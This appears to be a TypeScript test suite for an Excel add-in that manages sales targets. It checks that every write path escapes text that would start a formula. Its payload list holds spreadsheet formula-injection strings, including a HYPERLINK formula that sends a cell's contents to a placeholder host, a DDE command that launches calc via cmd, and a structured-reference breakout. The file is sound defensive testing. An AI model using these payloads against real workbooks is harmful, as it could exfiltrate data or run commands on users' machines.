/*
 * No text from data or from the pane is ever written as a formula: every write path of the Office
 * adapter (tables created and rewritten, formulas kept, targets / channels / salespeople, the lock,
 * the pace sheet), the in-memory workbook of the preview, and the pane's own builders of what it
 * writes (programs, budget, stage names, settings), each over every prefix that makes Excel start
 * a formula. The Office side runs against a context that records every property assigned anywhere,
 * so a write path nobody listed would be caught too.
 */
import { paceSheetCells, structuredRef, type Channel, type Salesperson, type TargetRow } from "../../src/core/targets";
import {
  newProgram,
  programRows,
  PROGRAMS_HEADERS,
  PROGRAMS_SHEET,
  PROGRAMS_TABLE,
} from "../../src/core/programs/programList";
import { safeCellText } from "../../src/excel/cellText";
import { MemoryWorkbook } from "../../src/excel/memoryWorkbook";
import { OfficeWorkbook } from "../../src/excel/officeWorkbook";
import type { CellValue, TableWrite } from "../../src/excel/workbookPort";
import { budgetTableWrite } from "../../src/taskpane/budget/budgetViewModel";
import { withStageName } from "../../src/taskpane/floor/stageNames";
import { settingsWithCostPerDay } from "../../src/taskpane/gap/closeGapModel";
import { cellStrings, recordingExcel, type Assignment } from "./recordingExcel";

/** Text that would start a formula in Excel (or in a spreadsheet that strips leading blanks). Each carries PWN so its traces can be found. */
const PAYLOADS: [string, string][] = [
  ["equals", '=HYPERLINK("http://example.invalid/?"&A1,"PWN")'],
  ["plus", "+PWN()"],
  ["minus", "-PWN()+1"],
  ["at (Lotus style)", "@PWN(A1)"],
  ["tab", "\t=PWN()"],
  ["carriage return", "\r=PWN()"],
  ["line feed", "\n=PWN()"],
  ["spaces then equals", "   =PWN()"],
  ["no-break space then plus", "\u00a0+PWN()"],
  ["ideographic space then equals", "\u3000=PWN()"],
  ["full-width equals", "\uFF1DPWN()"],
  ["full-width plus", "\uFF0BPWN()"],
  ["full-width minus", "\uFF0DPWN()"],
  ["full-width at", "\uFF20PWN()"],
  ["DDE", "=cmd|' /C calc'!'A0 PWN'"],
  ["a leading apostrophe (kept, not eaten)", "'PWN"],
];

/** What Excel (or a spreadsheet that strips leading blanks) would parse as a formula at the start of a cell; a leading apostrophe keeps a cell text. */
const LOOKS_LIVE = /^([\s\u3000]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|[\t\r\n])/;

/** The formula with its string literals ("…", quotes doubled) and structured references (Table[…], ' escapes) taken out. */
function codeOf(formula: string): string {
  return formula.replace(/"(?:[^"]|"")*"/g, '""').replace(/\[(?:[^\]']|'.)*\]/g, "[]");
}

/**
 * Every cell written is inert: a string that would start a formula is only ever one of the code's own
 * formulas (through Range.formulas) with the payload nowhere outside a string literal or a column
 * name; and the payload itself was written, as text (apostrophe first), at least once.
 */
function expectInert(assignments: readonly Assignment[], payload: string): void {
  const cells = cellStrings(assignments);
  for (const { prop, text } of cells) {
    if (text === safeCellText(payload)) continue;
    if (LOOKS_LIVE.test(text)) {
      expect({ prop, startsWithEquals: text.startsWith("=") }).toEqual({ prop: "formulas", startsWithEquals: true });
      expect(codeOf(text)).not.toContain("PWN");
    }
  }
  // Where the pane trims a name first (the earlier targets form), the trimmed text is what is written.
  const texts = cells.map((c) => c.text);
  expect(texts.includes(`'${payload}`) || texts.includes(`'${payload.trim()}`)).toBe(true);
}

describe("safeCellText", () => {
  it.each(PAYLOADS)("writes %s text with a leading apostrophe", (_, text) => {
    expect(safeCellText(text)).toBe(`'${text}`);
  });
  it.each([["Ana Ruiz"], ["O'Brien"], ["Trucks Q4 - fleet"], ["3-2-1 Special"], [""], ["Ana=Bo"], [" Ana"]])(
    "leaves %j as it is",
    (text) => {
      expect(safeCellText(text)).toBe(text);
    }
  );
});

const row = (salesperson: string, channelId: string, channel: string): TargetRow => ({
  month: "2025-03",
  salesperson,
  channelId,
  channel,
  deals: 12,
  revenue: null,
});
const fast = { isDealLogHeader: () => false, wait: () => Promise.resolve() };
const oldTargets = {
  PacecarTargets: [
    ["Month", "Salesperson", "Channel ID", "Channel", "Deals", "Revenue"],
    ["2025-03", "Ana", "internet", "Internet", 10, ""],
  ],
  PacecarChannels: [
    ["ID", "Name", "Active From", "Retired From"],
    ["internet", "Internet", "", ""],
  ],
  PacecarSalespeople: [
    ["Name", "Aliases", "Retired From"],
    ["Ana", "", ""],
  ],
};

/** A table write whose every text cell is the payload (header too: it is written when the table is created). */
const tableOf = (payload: string): TableWrite => ({
  name: "PacecarPrograms",
  sheetName: "Pacecar Programs",
  header: ["Program", payload],
  rows: [
    [payload, 3],
    ["Plain", payload],
  ],
});

/** The write paths of the Office adapter; `tables` is what the workbook holds before. */
const OFFICE_PATHS: [
  string,
  Record<string, CellValue[][]> | ((payload: string) => Record<string, CellValue[][]>),
  (wb: OfficeWorkbook, payload: string) => Promise<unknown>,
][] = [
  ["writeTable, a new table", {}, (wb, p) => wb.writeTable(tableOf(p))],
  [
    "writeTable, rewriting a table (formulas kept)",
    {
      PacecarPrograms: [
        ["Program", "X"],
        ["Trucks", 3],
        ["Plain", "old"],
      ],
    },
    (wb, p) => wb.writeTable(tableOf(p)),
  ],
  // The same text already in the cells: Range.formulas gives a text cell's text, "=…" included. Kept
  // formulas are matched on the value, so the text must not come back as the cell's "formula".
  [
    "writeTable, rewriting cells that already hold the same text",
    (p) => ({
      PacecarPrograms: [
        ["Program", p],
        [p, 3],
        ["Plain", p],
      ],
    }),
    (wb, p) => wb.writeTable(tableOf(p)),
  ],
  [
    "writeTargetRows, new targets, channels and salespeople tables",
    {},
    (wb, p) =>
      wb.writeTargetRows(
        [row(p, p, p)],
        [{ id: p, name: p, activeFrom: "", retiredFrom: "" }],
        [{ name: p, aliases: [p], retiredFrom: "" }]
      ),
  ],
  [
    "writeTargetRows, tables already there",
    oldTargets,
    (wb, p) =>
      wb.writeTargetRows(
        [row(p, "internet", p)],
        [{ id: "internet", name: p, activeFrom: "", retiredFrom: "" }],
        [{ name: p, aliases: [], retiredFrom: "" }]
      ),
  ],
  [
    "writeTarget, the earlier store/salesperson/channel form",
    oldTargets,
    (wb, p) => wb.writeTarget({ month: "2025-03", scope: "Salesperson", name: p, target: 9 }),
  ],
  [
    "writePaceSheet, names and channels from the deal log",
    {},
    (wb, p) =>
      wb.writePaceSheet(
        paceSheetCells(
          {
            table: "Deals",
            soldDate: "Sold Date",
            salesperson: "Sales Person",
            channel: "Lead Source",
            holidays: null,
          },
          [{ salesperson: p, channel: p, channelId: p, aliases: [p, `x"${p}`] }]
        )
      ),
  ],
  [
    "writePaceSheet, the deal log's column headers",
    {},
    (wb, p) =>
      wb.writePaceSheet(
        paceSheetCells(
          {
            table: "Deals",
            soldDate: `${p}]],PWN(),Deals[[x`,
            salesperson: `${p}'#`,
            channel: p,
            holidays: "Holidays[Date]",
          },
          [{ salesperson: p, channel: "Internet", channelId: "internet" }]
        )
      ),
  ],
];

describe.each(OFFICE_PATHS)("Office adapter: %s", (_, tables, write) => {
  it.each(PAYLOADS)("%s stays text", async (__, payload) => {
    const rec = recordingExcel(typeof tables === "function" ? tables(payload) : tables);
    await write(new OfficeWorkbook(fast), payload);
    expectInert(rec.assignments, payload);
  });
});

it("a column header from the deal log stays inside its structured reference (nothing breaks out)", () => {
  const header = "x]],PWN(),Deals[[y";
  const cells = paceSheetCells(
    { table: "Deals", soldDate: header, salesperson: "Sales Person", channel: "Lead Source", holidays: null },
    [{ salesperson: "Ana", channel: "Internet", channelId: "internet" }]
  );
  const formulas = cells.flat().flatMap((c) => ("formula" in c ? [c.formula] : []));
  expect(formulas.some((f) => f.includes(structuredRef("Deals", header)))).toBe(true);
  for (const f of formulas) expect(codeOf(f)).not.toContain("PWN");
});

it("the lock writes no cell text and never puts the password in a cell", async () => {
  const rec = recordingExcel({});
  await new OfficeWorkbook(fast).setTargetsLocked(true, "=PWN() secret");
  expect(rec.assignments.length).toBeGreaterThan(0);
  for (const a of rec.assignments) expect(JSON.stringify(a.value) ?? "").not.toContain("secret");
  for (const { text } of cellStrings(rec.assignments)) expect(LOOKS_LIVE.test(text)).toBe(false);
});

/** What the pane hands the port from what the GSM typed, per input. */
const PANE_INPUTS: [string, (payload: string) => TableWrite][] = [
  [
    "a program's name, tier table and model filter",
    (p) => ({
      name: PROGRAMS_TABLE,
      sheetName: PROGRAMS_SHEET,
      header: [...PROGRAMS_HEADERS],
      rows: programRows([{ ...newProgram(p), tierTable: p, modelContains: p }]),
    }),
  ],
  [
    "a budget line's metric and note",
    (p) =>
      budgetTableWrite([
        ["Metric", "Budget", "Note"],
        [p, 120, p],
      ]),
  ],
  [
    "a stage name from the log",
    (p) =>
      withStageName(
        {
          source: "PacecarStageNames",
          rows: [
            ["Name in log", "Stage"],
            [p, "Greeted"],
          ],
        },
        p,
        "left"
      ),
  ],
  [
    "another setting kept beside the holding cost",
    (p) =>
      settingsWithCostPerDay(
        {
          source: "PacecarSettings",
          rows: [
            ["Setting", "Value"],
            [p, p],
          ],
        },
        45
      ),
  ],
];

describe.each(PANE_INPUTS)("pane input through the Office adapter: %s", (_, build) => {
  it.each(PAYLOADS)("%s stays text", async (__, payload) => {
    const rec = recordingExcel({});
    await new OfficeWorkbook(fast).writeTable(build(payload));
    expectInert(rec.assignments, payload);
  });
});

describe("the preview's in-memory workbook keeps the text exactly as typed (what Excel reads back)", () => {
  it.each(PAYLOADS)("%s", async (_, payload) => {
    const wb = new MemoryWorkbook(null);
    await wb.writeTable(tableOf(payload));
    const people: Salesperson[] = [{ name: payload, aliases: [], retiredFrom: "" }];
    const channels: Channel[] = [{ id: "internet", name: payload, activeFrom: "", retiredFrom: "" }];
    await wb.writeTargetRows([row(payload, "internet", payload)], channels, people);
    const read = await wb.readTables(["PacecarPrograms", "PacecarTargets", "PacecarChannels", "PacecarSalespeople"]);
    expect(read.PacecarPrograms?.rows).toEqual([
      ["Program", payload],
      [payload, 3],
      ["Plain", payload],
    ]);
    expect(read.PacecarTargets?.rows[1]?.[1]).toBe(payload);
    expect(read.PacecarChannels?.rows[1]?.[1]).toBe(payload);
    expect(read.PacecarSalespeople?.rows[1]?.[0]).toBe(payload);
  });
});
